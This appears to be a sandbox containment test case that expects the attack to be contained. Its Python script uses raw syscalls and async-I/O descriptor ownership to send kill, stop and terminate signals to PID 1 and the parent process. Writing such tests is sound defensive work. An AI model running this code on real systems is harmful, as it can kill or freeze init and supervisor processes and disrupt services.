# attack: signals_by_thread
# threat: process
# expect: CONTAINED: signals sent by thread, by queue or by descriptor owner reach no supervisor
# oracle: the next job on the same server works
import ctypes, fcntl, os, signal
libc = ctypes.CDLL(None, use_errno=True)
info = ctypes.create_string_buffer(128)
ctypes.memmove(info, (ctypes.c_int * 3)(9, 0, -1), 12)
for pid in {1, os.getppid()} - {0}:
    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGINT, signal.SIGTERM, signal.SIGCHLD, signal.SIGUSR1, 34):
        libc.syscall(234, pid, pid, int(number))
        libc.syscall(200, pid, int(number))
        libc.syscall(129, pid, int(number), info)
        libc.syscall(297, pid, pid, int(number), info)
    r, w = os.pipe()
    try:
        fcntl.fcntl(r, fcntl.F_SETOWN, pid)
        fcntl.fcntl(r, 10, 9)
        fcntl.fcntl(r, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
        os.write(w, b"x")
    except OSError:
        pass
print("sent", flush=True)
